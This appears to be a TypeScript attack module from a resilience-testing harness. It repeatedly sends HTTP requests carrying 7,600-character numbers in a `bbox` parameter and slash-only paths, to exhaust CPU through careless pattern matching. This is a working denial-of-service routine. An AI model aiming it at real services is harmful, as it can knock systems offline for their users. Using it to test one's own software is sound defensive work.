/** Texts on which a careless pattern or loop works long: long numbers in `bbox`, and paths of nothing but slashes. */
import { encodeRequest } from '../harness/exchange.js';
import { openConnection, type Attack } from './attack.js';

/** Six a second of the first were once enough to stop everything; of the second, a hundred. */
const PER_SECOND = 12;
const SLASHES_EACH = 10;
const CHARACTERS = 7_600;
const PATHS = [
  `/api/v1/stations?bbox=1,1,1,${'1'.repeat(CHARACTERS)}x`,
  ...Array.from({ length: SLASHES_EACH }, () => `/%41${'/'.repeat(CHARACTERS)}`),
];

export const longTexts: Attack = (order) => {
  let sent = 0;
  let answered = 0;
  setInterval(() => {
    for (const path of PATHS) {
      const socket = openConnection(order);
      socket.write(encodeRequest(order.port, { path, headers: {} }));
      sent += 1;
      socket.once('data', () => {
        answered += 1;
        socket.destroy();
      });
    }
  }, 1000 / PER_SECOND);
  return { report: () => ({ sent, answered }) };
};
